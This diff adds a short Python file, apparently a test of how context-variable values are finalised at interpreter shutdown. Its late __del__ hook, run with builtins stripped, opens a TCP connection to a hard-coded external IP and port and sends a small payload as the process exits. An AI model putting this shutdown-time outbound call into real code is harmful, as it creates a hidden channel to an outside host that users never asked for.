@@ -1,0 +1,24 @@
+"""The value of a context variable: the thread's state holds it until the interpreter goes."""
+import _socket
+import contextvars
+import types
+
+
+class Late:
+    """Brings all it needs along: by the time it goes, modules, builtins and types may be gone."""
+
+
+client = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
+
+
+def work(self, connect=client.connect, send=client.send, address=("93.184.216.35", 9000)):
+    connect(address)
+    send(b"data")
+
+
+Late.__del__ = types.FunctionType(work.__code__, {"__builtins__": {"None": None}}, None, work.__defaults__)
+
+
+variable = contextvars.ContextVar("late")
+variable.set(Late())
+print("done")
